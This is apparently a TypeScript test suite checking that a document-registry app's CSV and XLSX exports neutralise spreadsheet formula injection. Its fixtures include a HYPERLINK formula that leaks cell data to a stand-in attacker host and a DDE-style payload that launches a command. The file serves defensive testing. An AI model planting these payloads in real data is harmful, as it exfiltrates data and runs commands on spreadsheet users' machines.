import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { receiveIncoming } from './dossiers-support.js';

/** What an outside probe put into names and senders: each would run as a formula in a spreadsheet program. */
const HYPERLINK = '=HYPERLINK("http://attacker.example/?"&B2&C2,"Xem chi tiết")';
const AT_CALL = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = '+84-239-3855-123';

/** The fields of one CSV line (RFC 4180, quoted fields may hold commas and quotes). */
function csvFields(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      out.push(cur);
      cur = '';
    } else cur += c;
  }
  out.push(cur);
  return out;
}

/** Every cell starts as text: none begins with = + - @, a tab or a carriage return (plain numbers aside). */
function assertNoFormula(cells: string[], where: string): void {
  for (const c of cells)
    assert.ok(
      !/^[=+\-@\t\r]/.test(c) || /^[+-]?\d+(?:[.,]\d+)?$/.test(c),
      `${where}: formula cell ${JSON.stringify(c)}`,
    );
}

describe('CSV and XLSX exports neutralise cells that spreadsheet programs would run as formulas', () => {
  let t: TestApp;
  let registerId: string;
  before(async () => {
    t = await startTestApp();
    await receiveIncoming(t, AT_CALL, { senderName: HYPERLINK, originalNumber: PLUS });
    await receiveIncoming(t, 'Công văn thường', { senderName: '-1+2' });
    const list = await t.request('GET', '/api/registers?direction=incoming', { as: 'snv.vanthu' });
    assert.equal(list.status, 200);
    registerId = list.body.find((r: { lastNumber: number }) => r.lastNumber >= 2).id;
  });
  after(() => t?.close());

  it('register CSV: the sender, subject and number cells are text beginning with an apostrophe', async () => {
    const res = await t.request('GET', `/api/registers/${registerId}/export?format=csv`, { as: 'snv.vanthu' });
    assert.equal(res.status, 200);
    const rows = String(res.body)
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n')
      .map(csvFields);
    const cells = rows.flat();
    assertNoFormula(cells, 'register CSV');
    assert.ok(cells.includes(`'${HYPERLINK}`), cells.join(' | '));
    assert.ok(
      cells.some((c) => c.startsWith("'+84-239")),
      'a telephone-like number with + is not a number',
    );
    assert.ok(cells.includes("'-1+2"), 'a sum is not a plain number');
  });

  it('register XLSX: the same cells, neutralised, and nothing stored as a formula', async () => {
    const res = await fetch(`${t.url}/api/registers/${registerId}/export?format=xlsx`, {
      headers: { authorization: `Bearer ${await t.token('snv.vanthu')}` },
    });
    assert.equal(res.status, 200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const values: string[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `formula in ${cell.address}`);
        values.push(String(cell.value ?? ''));
      }),
    );
    assertNoFormula(values, 'register XLSX');
    assert.ok(values.includes(`'${HYPERLINK}`), values.join(' | '));
  });

  it('reports CSV: an agency name beginning with = is neutralised', async () => {
    const me = (await t.request('GET', '/api/auth/me', { as: 'snv.giamdoc' })).body;
    const renamed = await t.request('PATCH', `/api/agencies/${me.agencyId}`, {
      as: 'admin',
      body: { name: HYPERLINK },
    });
    assert.equal(renamed.status, 200, JSON.stringify(renamed.body));
    const res = await t.request('GET', '/api/reports/dossiers?format=csv', { as: 'snv.giamdoc' });
    assert.equal(res.status, 200);
    const rows = String(res.body)
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n')
      .map(csvFields);
    assertNoFormula(rows.flat(), 'reports CSV');
    const agency = rows.find((r) => r[0] === 'agency');
    assert.equal(agency?.[3], `'${HYPERLINK}`);
  });
});
